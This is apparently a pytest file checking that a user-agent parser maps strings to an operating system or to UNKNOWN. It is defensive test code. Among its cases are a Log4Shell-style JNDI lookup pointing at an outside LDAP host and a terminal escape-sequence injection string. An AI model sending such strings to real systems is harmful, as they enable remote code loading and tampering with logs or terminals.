"""User agents name one of the trial's six systems, or none; what else is in them is not obeyed."""

import pytest

from securegrid.ingest.readers.agents import System, system_of


@pytest.mark.parametrize(
    ("agent", "system"),
    [
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/90", System.WINDOWS),
        ("Mozilla/5.0 (iPhone; CPU iPhone OS 14_5 like Mac OS X)", System.IOS),
        ("Mozilla/5.0 (iPad; CPU OS 14_5 like Mac OS X)", System.IOS),
        ("Mozilla/5.0 (Linux; Android 11; Pixel 5)", System.ANDROID),
        ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)", System.MAC),
        ("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:88.0)", System.LINUX),
        ("curl/7.68.0", System.UNKNOWN),
        ("-", System.UNKNOWN),
        ("", System.UNKNOWN),
        ("${jndi:ldap://203.0.113.5/a}", System.UNKNOWN),
        ("\x1b[2J\x1b]0;x\x07 Windows NT", System.WINDOWS),
        ("x" * 5_000 + "Windows", System.UNKNOWN),
        ("iOS", System.IOS),
        ("OS-Unknown", System.UNKNOWN),
        ("Mac", System.MAC),
    ],
)
def test_system_of(agent: str, system: System) -> None:
    assert system_of(agent) is system
